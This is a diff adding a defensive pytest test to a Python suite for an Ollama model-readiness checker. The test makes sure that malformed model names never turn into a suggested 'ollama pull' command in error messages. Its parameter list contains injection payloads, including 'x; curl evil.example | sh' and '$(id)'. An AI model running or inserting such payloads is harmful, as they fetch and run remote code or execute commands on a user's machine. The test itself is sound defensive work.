@@ -300,6 +300,16 @@ async def test_only_allowed_models_can_be_named(fake_ollama: FakeOllama) -> None
         assert "guide" in caught.value.message
 
 
+@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "a\nb", "$(id)", "`id`"])
+async def test_no_command_is_made_of_what_is_no_name(fake_ollama: FakeOllama, name: str) -> None:
+    """Whoever copies it from the message would run it."""
+    async with watched(fake_ollama.url) as readiness:
+        await reach(readiness, "ok")
+        with pytest.raises(ModelNotFound) as caught:
+            readiness.resolve(name)
+    assert "ollama pull" not in caught.value.message and "Choose one of: " in caught.value.message
+
+
 async def test_a_model_added_by_hand_is_found_after_a_miss(fake_ollama: FakeOllama) -> None:
     """A name that is not installed makes the list be asked anew, so that it works soon after `ollama pull`."""
     async with watched(fake_ollama.url) as readiness:
